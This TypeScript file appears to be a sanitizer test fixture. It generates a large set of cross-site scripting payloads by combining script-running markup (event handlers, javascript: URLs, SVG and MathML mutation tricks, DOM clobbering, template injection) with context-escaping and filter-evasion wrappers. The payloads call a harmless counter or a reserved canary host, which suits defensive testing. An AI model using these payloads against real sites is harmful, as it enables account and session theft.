/**
 * Attacks by construction: ways markup can run or load (families) in ways of getting out of where it stands (contexts).
 * Each calls `xss()`, which the page of the test counts, or asks for an address under `canary.invalid`.
 */
type Family = (js: string) => string;
type Context = (attack: string) => string;

const JS = 'top.xss()';
const CANARY = 'https://canary.invalid/x';

const FAMILIES: readonly Family[] = [
  (js) => `<script>${js}</script>`,
  () => `<script src="${CANARY}.js"></script>`,
  (js) => `<img src="x" onerror="${js}">`,
  () => `<img src="${CANARY}.png">`,
  () => `<img srcset="${CANARY}.png 2x">`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">x</text></a></svg>`,
  (js) => `<svg><foreignObject><img src="x" onerror="${js}"></foreignObject></svg>`,
  () => `<svg><image href="${CANARY}.svg"></image></svg>`,
  (js) => `<body onload="${js}">`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
  () => `<iframe src="${CANARY}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  () => `<embed src="${CANARY}.swf">`,
  (js) => `<a href="javascript:${js}" autofocus onfocus="${js}">x</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  (js) => `<form action="javascript:${js}"><button autofocus onfocus="${js}">x</button></form>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
  (js) => `<video><source onerror="${js}"></video>`,
  () => `<audio src="${CANARY}.mp3" autoplay></audio>`,
  (js) => `<marquee onstart="${js}">x</marquee>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  (js) => `<template><img src=x onerror="${js}"></template>`,
  (js) => `<div style="background:url(javascript:${js})">x</div>`,
  () => `<div style="background-image:url(${CANARY}.png)">x</div>`,
  () => `<style>@import "${CANARY}.css";</style>`,
  () => `<link rel="stylesheet" href="${CANARY}.css">`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  () => `<base href="${CANARY}/">`,
  () => `<form id="body"><input name="ownerDocument"><input name="childNodes"></form><img name="getElementById">`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `javascript:${js}`,
  (js) => `<!--?lit$1$--><img src=x onerror="${js}"><!--/lit-part-->`,
  (js) => `<p onmouseover="${js}" onanimationstart="${js}" style="animation:a 1s">x</p>`,
  (js) => `<table background="javascript:${js}"><td background="${CANARY}.gif">x</td></table>`,
];

const CONTEXTS: readonly Context[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'>${attack}`,
  (attack) => `-->${attack}<!--`,
  (attack) => `]]>${attack}<![CDATA[`,
  (attack) => `</title></style></script></textarea></iframe>${attack}`,
  (attack) => `<b>${attack}`,
  (attack) => attack.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${alternating(name)}`),
  (attack) => attack.replace(/ (?=[a-z]+=)/g, '/'),
  (attack) => attack.replace(/javascript:/g, 'java\tscript:').replace(/ /g, '\n'),
  (attack) => attack.replace(/"/g, ''),
  (attack) => attack.replace(/>\s*$/, ''),
  (attack) => attack.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (attack) => `<svg><desc>${attack}</desc></svg>`,
  (attack) => attack.replace(/<([a-z]+)/, '<$1<$1'),
  (attack) => `\u2028${attack}\u202e`,
];

/** Every family in every context; the same text twice counts once. */
export function xssPayloads(): readonly string[] {
  return [...new Set(FAMILIES.flatMap((family) => CONTEXTS.map((context) => context(family(JS)))))];
}

function alternating(name: string): string {
  return [...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}
